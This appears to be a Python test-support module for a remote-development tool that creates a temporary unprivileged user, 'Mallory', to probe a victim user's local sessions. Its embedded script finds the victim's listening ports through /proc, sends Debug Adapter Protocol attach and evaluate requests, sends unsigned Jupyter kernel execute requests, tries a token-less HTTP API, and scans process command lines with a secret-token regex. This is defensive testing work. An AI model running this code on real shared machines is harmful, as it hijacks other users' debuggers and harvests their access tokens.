"""Mallory: a second, unprivileged local user of the remote who attacks another user's
sessions the way the shared machines of our users allow (see ``:help remote_dev-guarantees``).

While she runs she polls the kernel's socket tables every 5 ms (world-readable, as `ss -ltn`
reads them) for new listening TCP sockets of the victim's uid -- the uid column is readable
by everyone, so a real attacker can aim as well, and this machine's other users' sockets are
left alone -- and connects to each at once, speaking the Debug Adapter Protocol
(initialize, attach, configurationDone, threads, pause, evaluate of the victim's uid). Every
100 ms she also tries to list and read everything under the folders she is given (the
victim's remote-dev cache), connects to the Unix sockets she is given (unix:PATH, a tmux
server's) and reads every process's command line looking for the run's
secrets. Ending her (closing her stdin) prints what she got:
tried (sockets she connected to), answered (sockets that sent her any byte), accepted
(`attach` answered with success), evaluated (`evaluate` answered), read (files she read or
folders she listed), secrets (the victim's processes whose command line holds a long hex string
or a value after one of SECRET_MARKERS).
"""
from __future__ import annotations

import json
import os
import pwd
import re
import signal
import subprocess
import time
from typing import Any

PREFIX = "rdmallory"
# What a secret on a command line is written after (debugpy's adapter, Jupyter, ours).
SECRET_MARKERS = ("--server-access-token", "--adapter-access-token", "--access-token", "--client-access-token",
                  "access_token=", "token=", "REMOTE_DEV_DEBUG_TOKEN", "--IdentityProvider.token", "--key")
# a long hex string, or a value after a marker (not None)
SECRET_PATTERN = (r"[0-9a-fA-F]{32,}|(?:%s)[ =:]*['\"]?(?!None\b)[^\s'\",)]{8,}"
                  % "|".join(re.escape(m) for m in SECRET_MARKERS))

ATTACK = r'''
import json, os, re, socket, struct, sys, threading, time
uid, SECRET, paths = sys.argv[1], sys.argv[2], sys.argv[3:]
leaked = set()
unix_tried = set()
stats = {"tried": 0, "answered": 0, "accepted": 0, "evaluated": 0, "read": 0, "secrets": 0}
lock = threading.Lock()
stop = threading.Event()

def count(key):
    with lock:
        stats[key] += 1

def listening():
    out = set()
    for table, fam in (("/proc/net/tcp", 4), ("/proc/net/tcp6", 6)):
        try:
            with open(table) as f:
                lines = f.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            x = line.split()
            if len(x) > 9 and x[3] == "0A" and x[7] == uid:
                out.add((fam, x[1], x[9]))
    return out

def address(fam, spelled):
    a, p = spelled.split(":")
    if fam == 4:
        host = socket.inet_ntoa(struct.pack("=I", int(a, 16)))
        return socket.AF_INET, ("127.0.0.1" if host == "0.0.0.0" else host), int(p, 16)
    host = socket.inet_ntop(socket.AF_INET6, struct.pack("=4I", *[int(a[i:i + 8], 16) for i in range(0, 32, 8)]))
    return socket.AF_INET6, ("::1" if host == "::" else host), int(p, 16)

def frame(seq, command, arguments):
    body = json.dumps({"seq": seq, "type": "request", "command": command, "arguments": arguments}).encode()
    return b"Content-Length: %d\r\n\r\n" % len(body) + body

REQUESTS = [("initialize", {"adapterID": "debugpy", "clientID": "mallory"}), ("attach", {"justMyCode": False}),
            ("configurationDone", {}), ("threads", {}), ("pause", {"threadId": 1}),
            ("evaluate", {"expression": "__import__('os').getuid()", "context": "repl"})]

def read_for(s, seconds):
    """What the socket sends within seconds (less when it closes or goes quiet)."""
    got = b""
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            break
        if not chunk:
            break
        got += chunk
    return got

def attack(fam, host, port):
    count("tried")
    try:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect((host, port))
        s.sendall(b"".join(frame(i + 1, c, a) for i, (c, a) in enumerate(REQUESTS)))
        buf = read_for(s, 4)
        s.close()
    except OSError:
        return
    if not buf:
        return
    count("answered")
    while b"\r\n\r\n" in buf:
        head, rest = buf.split(b"\r\n\r\n", 1)
        try:
            n = int([h for h in head.split(b"\r\n") if h.lower().startswith(b"content-length")][0].split(b":")[1])
            msg = json.loads(rest[:n])
        except Exception:
            break
        buf = rest[n:]
        if msg.get("type") == "response" and msg.get("success"):
            if msg.get("command") == "attach":
                count("accepted")
            if msg.get("command") == "evaluate":
                count("evaluated")

def snoop():
    for top in paths:
        if top.startswith("unix:"):                # a Unix socket (a tmux server's): connect to it
            sock = top[5:]
            if sock in unix_tried:
                continue
            unix_tried.add(sock)
            count("tried")
            try:
                u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                u.settimeout(2)
                u.connect(sock)
                count("answered")
                u.close()
            except OSError:
                pass
            continue
        for dirpath, dirs, files in os.walk(top):
            count("read")
            for name in files:
                try:
                    with open(os.path.join(dirpath, name), "rb") as f:
                        f.read(1)
                    count("read")
                except OSError:
                    pass
    if SECRET:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or pid in leaked:
                continue
            try:
                if str(os.stat("/proc/" + pid).st_uid) != uid:
                    continue
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    line = f.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if re.search(SECRET, line):
                leaked.add(pid)
                count("secrets")

ready = threading.Event()

def watch():
    seen = listening()
    snoop()
    last = time.time()
    ready.set()
    while not stop.is_set():
        now = listening()
        for fam, spelled, inode in now - seen:
            t = threading.Thread(target=attack, args=address(fam, spelled))
            t.daemon = True
            t.start()
        seen |= now
        if time.time() - last > 0.1:
            snoop()
            last = time.time()
        time.sleep(0.005)

def zmtp_frame(body, more=False, command=False):
    flags = (1 if more else 0) | (4 if command else 0)
    if len(body) > 255:
        return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
    return bytes([flags, len(body)]) + body

def jupyter_execute(host, port, code):
    """A kernel's shell port as ZMQ speaks it (ZMTP 3.0, NULL mechanism, a DEALER): an
    execute_request whose signature she cannot make without the kernel's key."""
    count("tried")
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" + b"\0" * 31)
        ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
        s.sendall(zmtp_frame(ready, command=True))
        header = json.dumps({"msg_id": "m1", "session": "s1", "username": "mallory", "msg_type": "execute_request",
                             "version": "5.3", "date": "2026-01-01T00:00:00Z"}).encode()
        content = json.dumps({"code": code, "silent": False, "store_history": False, "user_expressions": {},
                              "allow_stdin": False}).encode()
        parts = [b"<IDS|MSG>", b"0" * 64, header, b"{}", b"{}", content]
        s.sendall(b"".join(zmtp_frame(p, more=i < len(parts) - 1) for i, p in enumerate(parts)))
        got = read_for(s, 3)
        s.close()
    except OSError:
        return
    if b"execute_reply" in got:
        count("answered")
        if b'"ok"' in got:
            count("evaluated")

if uid == "zmq":   # a kernel's port: zmq 127.0.0.1 PORT CODE
    jupyter_execute(paths[0], int(paths[1]), paths[2])
    print(json.dumps(stats), flush=True)
    sys.exit(0)
if uid == "http":   # an HTTP server's API without its token: http 127.0.0.1 PORT
    count("tried")
    try:
        s = socket.create_connection((paths[0], int(paths[1])), timeout=5)
        s.sendall(b"GET /api/contents HTTP/1.0\r\nHost: localhost\r\n\r\n")
        head = s.recv(100)
        if head:
            count("answered")
        if head.split(b" ")[1:2] == [b"200"]:
            count("accepted")
    except (OSError, IndexError):
        pass
    print(json.dumps(stats), flush=True)
    sys.exit(0)
if uid == "once":   # one given port: once 127.0.0.1 PORT
    attack(socket.AF_INET, paths[0], int(paths[1]))
    print(json.dumps(stats), flush=True)
    sys.exit(0)
threading.Thread(target=watch, daemon=True).start()
ready.wait()
print("ready", flush=True)
sys.stdin.read()
stop.set()
time.sleep(4.5)
with lock:
    print(json.dumps(stats), flush=True)
'''


def sweep() -> None:
    """Attackers an earlier, aborted session made (its pytest is gone)."""
    from support.remote import remove_user

    for entry in pwd.getpwall():
        digits = entry.pw_name[len(PREFIX):]
        if entry.pw_name.startswith(PREFIX) and not (digits.isdigit() and os.path.exists(f"/proc/{digits}")):
            remove_user(entry.pw_name)


class Mallory:
    """The attacking user; start() her against a victim's uid, stop() for her figures."""

    def __init__(self) -> None:
        sweep()
        self.name = f"{PREFIX}{os.getpid()}"
        subprocess.run(["useradd", "--create-home", "--shell", "/bin/bash", self.name], check=True,
                       capture_output=True, timeout=60)
        self.proc: subprocess.Popen[str] | None = None

    def start(self, victim_uid: int, paths: list[str]) -> None:
        self.proc = subprocess.Popen(["runuser", "-u", self.name, "--", "/usr/bin/python3", "-I", "-c", ATTACK,
                                      str(victim_uid), SECRET_PATTERN, *paths],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd="/")
        assert self.proc.stdout is not None
        assert self.proc.stdout.readline().strip() == "ready"

    def stop(self) -> dict[str, Any]:
        assert self.proc is not None and self.proc.stdin is not None
        self.proc.stdin.close()
        assert self.proc.stdout is not None
        out = self.proc.stdout.read()
        self.proc.wait(30)
        self.proc = None
        return json.loads(out.strip().splitlines()[-1])

    def try_port(self, host: str, port: int) -> dict[str, Any]:
        """She connects to one given port at once (a listener of a user she cannot aim at
        by uid without hitting this machine's other users: root's)."""
        res = subprocess.run(["runuser", "-u", self.name, "--", "/usr/bin/python3", "-I", "-c", ATTACK, "once", "",
                              host, str(port)], capture_output=True, text=True, timeout=60, cwd="/")
        return json.loads(res.stdout.strip().splitlines()[-1])

    def try_kernel(self, host: str, port: int, code: str) -> dict[str, Any]:
        """She sends a Jupyter kernel's port an execute_request of code, signed without the
        kernel's key: answered / evaluated count an execute_reply (an "ok" one)."""
        res = subprocess.run(["runuser", "-u", self.name, "--", "/usr/bin/python3", "-I", "-c", ATTACK, "zmq", "",
                              host, str(port), code], capture_output=True, text=True, timeout=60, cwd="/")
        return json.loads(res.stdout.strip().splitlines()[-1])

    def try_http(self, host: str, port: int) -> dict[str, Any]:
        """She asks an HTTP server for its API (a Jupyter server's contents) without a token:
        answered counts any answer (a refusal too), accepted a 200."""
        res = subprocess.run(["runuser", "-u", self.name, "--", "/usr/bin/python3", "-I", "-c", ATTACK, "http", "",
                              host, str(port)], capture_output=True, text=True, timeout=60, cwd="/")
        return json.loads(res.stdout.strip().splitlines()[-1])

    def remove(self) -> None:
        from support.remote import remove_user

        if self.proc is not None:
            self.proc.send_signal(signal.SIGKILL)
            self.proc.wait(10)
        time.sleep(0.1)
        remove_user(self.name)
